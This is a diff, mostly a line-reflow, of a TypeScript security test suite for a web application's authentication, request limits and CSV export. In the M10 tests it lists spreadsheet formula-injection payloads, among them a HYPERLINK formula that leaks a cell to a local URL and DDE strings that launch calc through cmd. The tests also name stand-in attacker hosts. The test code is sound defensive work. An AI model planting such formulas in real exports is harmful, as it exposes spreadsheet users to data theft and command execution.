@@ -68,7 +68,12 @@ function json(body: unknown): { headers: Record<string, string>; body: string } 
 
 async function signIn(email: string, password = PASSWORD, extra: { localAddress?: string; headers?: Record<string, string> } = {}): Promise<RawResponse> {
   const req = json({ email, password });
-  return rawRequest(`${server.url}/api/auth/sign-in/email`, { method: "POST", headers: { ...req.headers, ...extra.headers }, body: req.body, localAddress: extra.localAddress });
+  return rawRequest(`${server.url}/api/auth/sign-in/email`, {
+    method: "POST",
+    headers: { ...req.headers, ...extra.headers },
+    body: req.body,
+    localAddress: extra.localAddress,
+  });
 }
 
 async function sessionCookie(email: string, password = PASSWORD): Promise<string> {
@@ -80,7 +85,11 @@ async function sessionCookie(email: string, password = PASSWORD): Promise<string
 
 async function trpcMutation(pathName: string, input: unknown, cookie?: string): Promise<RawResponse> {
   const req = json({ json: input });
-  return rawRequest(`${server.url}/api/trpc/${pathName}`, { method: "POST", headers: { ...req.headers, ...(cookie ? { Cookie: cookie } : {}) }, body: req.body });
+  return rawRequest(`${server.url}/api/trpc/${pathName}`, {
+    method: "POST",
+    headers: { ...req.headers, ...(cookie ? { Cookie: cookie } : {}) },
+    body: req.body,
+  });
 }
 
 async function trpcQuery(pathName: string, cookie?: string): Promise<RawResponse> {
@@ -143,7 +152,10 @@ describe("M6: a rebound host name cannot sign in", () => {
     expect(isAllowedHost("192.168.1.5:3000", {})).toBe(true);
     expect(isAllowedHost("[::1]:3000", {})).toBe(true);
     expect(isAllowedHost("attacker.example", config)).toBe(false);
-    expect(trustedOriginsFor(config, { protocol: "http:", host: "attacker.example" })).toEqual(["https://verdict.lab.example", "http://verdict-alt.lab.example:8080"]);
+    expect(trustedOriginsFor(config, { protocol: "http:", host: "attacker.example" })).toEqual([
+      "https://verdict.lab.example",
+      "http://verdict-alt.lab.example:8080",
+    ]);
     expect(trustedOriginsFor({}, { protocol: "http:", host: "127.0.0.1:3000" })).toEqual(["http://127.0.0.1:3000"]);
   });
 });
@@ -151,7 +163,11 @@ describe("M6: a rebound host name cannot sign in", () => {
 describe("M7: request bodies and batches are capped", () => {
   const big = "x".repeat(2 * 1024 * 1024);
   it("refuses an oversized public tRPC body with a 413 and a JSON message, declared or streamed", async () => {
-    const declared = await rawRequest(`${server.url}/api/trpc/accounts.acceptInvitation`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ json: { token: big } }) });
+    const declared = await rawRequest(`${server.url}/api/trpc/accounts.acceptInvitation`, {
+      method: "POST",
+      headers: { "Content-Type": "application/json" },
+      body: JSON.stringify({ json: { token: big } }),
+    });
     expect(declared.status).toBe(413);
     const error = JSON.parse(declared.body).error.json;
     expect(error.message).toMatch(/larger than this server accepts \(1 MiB\)/);
@@ -165,22 +181,34 @@ describe("M7: request bodies and batches are capped", () => {
     });
     expect(streamed.status).toBe(413);
     // A batch gets one refusal per call, in the format the browser's batch link reads.
-    expect((JSON.parse(streamed.body) as { error: { json: { data: { path: string } } } }[]).map((e) => e.error.json.data.path)).toEqual(["accounts.acceptInvitation", "accounts.setup"]);
+    expect((JSON.parse(streamed.body) as { error: { json: { data: { path: string } } } }[]).map((e) => e.error.json.data.path)).toEqual([
+      "accounts.acceptInvitation",
+      "accounts.setup",
+    ]);
   });
 
   it("gives the CSV uploads their own, larger limit", async () => {
-    const res = await rawRequest(`${server.url}/api/trpc/analytics.csvAgreement`, { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ json: { text: big } }) });
+    const res = await rawRequest(`${server.url}/api/trpc/analytics.csvAgreement`, {
+      method: "POST",
+      headers: { "Content-Type": "application/json" },
+      body: JSON.stringify({ json: { text: big } }),
+    });
     expect(res.status).toBe(401); // refused for want of a session before the body is read (review 2, N5)
   });
 
   it("caps sign-in bodies", async () => {
-    const res = await rawRequest(`${server.url}/api/auth/sign-in/email`, { method: "POST", headers: { "Content-Type": "application/json", Origin: server.url }, body: JSON.stringify({ email: "a@b.c", password: "p".repeat(100_000) }) });
+    const res = await rawRequest(`${server.url}/api/auth/sign-in/email`, {
+      method: "POST",
+      headers: { "Content-Type": "application/json", Origin: server.url },
+      body: JSON.stringify({ email: "a@b.c", password: "p".repeat(100_000) }),
+    });
     expect(res.status).toBe(413);
     expect(JSON.parse(res.body).error.message).toMatch(/larger than this server accepts \(64 KiB\)/);
   });
 
   it("refuses batches of more than 10 calls", async () => {
-    const batch = (n: number) => `${server.url}/api/trpc/${Array(n).fill("accounts.session").join(",")}?batch=1&input=${encodeURIComponent(JSON.stringify({}))}`;
+    const batch = (n: number) =>
+      `${server.url}/api/trpc/${Array(n).fill("accounts.session").join(",")}?batch=1&input=${encodeURIComponent(JSON.stringify({}))}`;
     expect((await rawRequest(batch(10))).status).toBe(200);
     expect((await rawRequest(batch(11))).status).toBe(400);
   });
@@ -224,7 +252,14 @@ describe("M9: a locked database gives a quick, retryable answer", () => {
 });
 
 describe("M10: exported CSVs cannot run formulas in a spreadsheet", () => {
-  const attacks = ['=HYPERLINK("http://127.0.0.1:9999/x?leak="&A2,"Open details")', "+1+cmd|' /C calc'!A0-xss", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"];
+  const attacks = [
+    '=HYPERLINK("http://127.0.0.1:9999/x?leak="&A2,"Open details")',
+    "+1+cmd|' /C calc'!A0-xss",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1",
+    "\r=1",
+  ];
   it("neutralises notes and imported names in the label export", () => {
     const row = Object.fromEntries(LABEL_EXPORT_COLUMNS.map((c) => [c, null])) as LabelExportRow;
     const rows = attacks.map((a) => ({ ...row, kind: "annotation", note: a, run_name: a, time_spent_ms: -5 }));
@@ -234,7 +269,12 @@ describe("M10: exported CSVs cannot run formulas in a spreadsheet", () => {
     expect(records[0]![header!.indexOf("time_spent_ms")]).toBe("-5");
   });
   it("neutralises analytics table cells", () => {
-    const csv = tableToCsv({ name: "t", columns: [{ key: "a", label: "=label" }], rows: [{ key: "1", cells: { a: { text: "@cell", csv: ["-0.25"] } } }], empty: "" });
+    const csv = tableToCsv({
+      name: "t",
+      columns: [{ key: "a", label: "=label" }],
+      rows: [{ key: "1", cells: { a: { text: "@cell", csv: ["-0.25"] } } }],
+      empty: "",
+    });
     expect(parseCsv(csv)).toEqual([["'=label"], ["-0.25"]]);
   });
 });
@@ -343,7 +383,8 @@ describe("L9: first-run setup makes exactly one admin when two requests race", (
 describe("L10: display names set through better-auth are bounded", () => {
   it("refuses an over-long or empty name and keeps the old one", async () => {
     const cookie = await sessionCookie("z@sec.test");
-    const update = (name: string) => rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
+    const update = (name: string) =>
+      rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
     const long = await update("R".repeat(300));
     expect(long.status).toBe(400);
     expect(long.body).toMatch(/name: at most 200 characters/);
@@ -411,7 +452,8 @@ describe("review 2, L9: display names are unique, ignoring case and spaces", () 
     await createAccount(ctx, { email: "ann@sec.test", name: "Ann One", role: "annotator", password: PASSWORD });
     await createAccount(ctx, { email: "imp@sec.test", name: "Imposter", role: "annotator", password: PASSWORD });
     const cookie = await sessionCookieFrom("127.0.0.63", "imp@sec.test");
-    const rename = (name: string) => rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
+    const rename = (name: string) =>
+      rawRequest(`${server.url}/api/auth/update-user`, { method: "POST", headers: { ...json({}).headers, Cookie: cookie }, body: JSON.stringify({ name }) });
     for (const name of ["Ann One", "ann one", "  ANN   ONE ", "AnnOne", "Ann\u00a0One", "Ａｎｎ Ｏｎｅ", "Ann\u200bOne"]) {
       const res = await rename(name);
       expect(res.status, name).toBe(400);
@@ -421,7 +463,9 @@ describe("review 2, L9: display names are unique, ignoring case and spaces", () 
     // One's own name in another spelling, and a new name, are fine.
     expect((await rename("imposter")).status).toBe(200);
     expect((await rename("Ann Two")).status).toBe(200);
-    await expect(createAccount(ctx, { email: "ann2@sec.test", name: "ann one", role: "annotator", password: PASSWORD })).rejects.toThrow(/"ann one" is already the name of another account/);
+    await expect(createAccount(ctx, { email: "ann2@sec.test", name: "ann one", role: "annotator", password: PASSWORD })).rejects.toThrow(
+      /"ann one" is already the name of another account/,
+    );
     // An admin renaming someone else is held to the same rule.
     const admin = await sessionCookieFrom("127.0.0.64", "admin@sec.test");
     const byAdmin = await rawRequest(`${server.url}/api/auth/admin/update-user`, {
@@ -443,7 +487,9 @@ describe("review 2, L4: every route handler under app/api checks Host and Origin
   const params = { params: Promise.resolve({ id: "1", hash: "0".repeat(64), trpc: "accounts.me", all: ["sign-in", "email"] }) };
 
   it("finds the route files it walks", () => {
-    expect(routeFiles).toEqual(expect.arrayContaining(["imports/route.ts", "trpc/[trpc]/route.ts", "screenshots/[hash]/route.ts", "campaigns/[id]/labels/route.ts"]));
+    expect(routeFiles).toEqual(
+      expect.arrayContaining(["imports/route.ts", "trpc/[trpc]/route.ts", "screenshots/[hash]/route.ts", "campaigns/[id]/labels/route.ts"]),
+    );
   });
 
   it("answers a rebound Host 421 and another origin's page 403, before the session or body is looked at", async () => {
@@ -459,7 +505,8 @@ describe("review 2, L4: every route handler under app/api checks Host and Origin
         checked.push(where);
         const url = `http://${good}/api/${path.dirname(file)}`;
         const body = method === "GET" ? undefined : "PK\u0003\u0004";
-        const send = (headers: Record<string, string>) => handler(new Request(url, { method, headers: { Cookie: cookie, "Content-Type": "text/plain", ...headers }, body }), params);
+        const send = (headers: Record<string, string>) =>
+          handler(new Request(url, { method, headers: { Cookie: cookie, "Content-Type": "text/plain", ...headers }, body }), params);
         expect((await send({ Host: "rebind.attacker.example" })).status, where).toBe(421);
         // A page on another port of this host: its requests are same-site, so the Lax session cookie goes with them.
         const other = await send({ Host: good, Origin: "http://127.0.0.1:9998" });
@@ -469,7 +516,9 @@ describe("review 2, L4: every route handler under app/api checks Host and Origin
         if (method !== "GET") expect((await send({ Host: good, "Sec-Fetch-Site": "same-site" })).status, where).toBe(403);
       }
     }
-    expect(checked).toEqual(expect.arrayContaining(["POST imports/route.ts", "GET health/route.ts", "GET screenshots/[hash]/route.ts", "GET campaigns/[id]/reveal-stages/route.ts"]));
+    expect(checked).toEqual(
+      expect.arrayContaining(["POST imports/route.ts", "GET health/route.ts", "GET screenshots/[hash]/route.ts", "GET campaigns/[id]/reveal-stages/route.ts"]),
+    );
   });
 
   it("serves the installation's own pages and clients that send no Origin", async () => {
